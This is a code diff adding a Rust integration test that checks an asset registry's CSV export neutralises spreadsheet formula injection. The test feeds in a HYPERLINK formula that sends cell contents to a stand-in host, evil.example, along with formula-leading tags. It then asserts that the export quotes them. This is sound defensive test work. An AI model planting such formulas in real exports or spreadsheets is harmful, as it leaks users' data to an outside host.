@@ -337,3 +337,28 @@ async fn deadlines_can_be_marked_and_feed_a_private_calendar() -> TestResult {
     assert_eq!(denied.status, StatusCode::FORBIDDEN);
     Ok(())
 }
+
+/// OWASP CSV injection: a title or tag that a spreadsheet would run as a formula leaves the export
+/// as text; the import of that export gives the same registry back.
+#[actix_web::test]
+async fn the_export_defuses_formula_cells() -> TestResult {
+    let app = spawn_app().await?;
+    let m = app.token("manager").await?;
+    let mut body = us_patent("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
+    body["tags"] = json!(["@SUM(1+1)", "+cmd"]);
+    let r = create(&app, &m, &body).await?;
+    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
+    let export = app.get_as(&m, "/api/v1/assets/export?format=csv").await?;
+    assert_eq!(export.status, StatusCode::OK);
+    let mut reader = csv::Reader::from_reader(export.body.as_bytes());
+    let headers = reader.headers()?.clone();
+    let title_at = headers.iter().position(|h| h == "title").ok_or("no title column")?;
+    let tags_at = headers.iter().position(|h| h == "tags").ok_or("no tags column")?;
+    let row = reader.records().next().ok_or("no row")??;
+    assert_eq!(&row[title_at], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
+    assert_eq!(&row[tags_at], "'@SUM(1+1);+cmd");
+    for cell in row.iter() {
+        assert!(!cell.starts_with(['=', '+', '@']), "formula-leading cell in the export: {cell}");
+    }
+    Ok(())
+}
